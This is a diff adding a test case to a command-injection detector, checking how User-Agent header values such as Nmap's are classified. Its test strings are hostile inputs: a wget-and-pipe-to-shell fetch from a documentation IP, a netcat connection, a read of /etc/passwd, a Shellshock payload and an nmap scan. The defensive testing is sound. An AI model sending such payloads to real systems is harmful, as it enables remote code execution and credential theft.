@@ -134,6 +134,22 @@ describe('command injection', () => {
     ];
     assert.deepEqual(hits(detectCommandInjection, benign), []);
   });
+
+  it("reads a User-Agent's comment items as items, and what follows a `;` outside them as shell", () => {
+    // Nmap's scripts send this User-Agent on every request: `; Nmap` is a comment item, not a command.
+    const nse = 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)';
+    assert.equal(detectCommandInjection(nse, true), null);
+    assert.equal(detectCommandInjection('Mozilla/5.0 (compatible; Wget http://x; curl/8.5)', true), null);
+    // Read as any other field's value it is a separator and a command.
+    assert.equal(detectCommandInjection(nse), '; then nmap');
+    // Inside a comment a command with shell arguments still counts; outside one, any command does.
+    assert.equal(detectCommandInjection('Mozilla/5.0 (X11; cat /etc/passwd)', true), '; then cat');
+    assert.equal(detectCommandInjection('Mozilla/5.0 (X11; wget -q -O- http://198.51.100.7/x|sh)', true), '; then wget');
+    assert.equal(detectCommandInjection('Mozilla/5.0 (X11); wget http://198.51.100.7/x.sh', true), '; then wget');
+    assert.equal(detectCommandInjection('curl/8.5.0;nc 198.51.100.7 4444', true), '; then nc');
+    assert.equal(detectCommandInjection('() { :;}; echo; echo -n abc; echo def', true), 'shellshock function definition');
+    assert.equal(detectCommandInjection('Mozilla/5.0 (X11; Linux x86_64) | nmap -sS 10.0.0.0/8', true), '| then nmap');
+  });
 });
 
 describe('log4shell', () => {
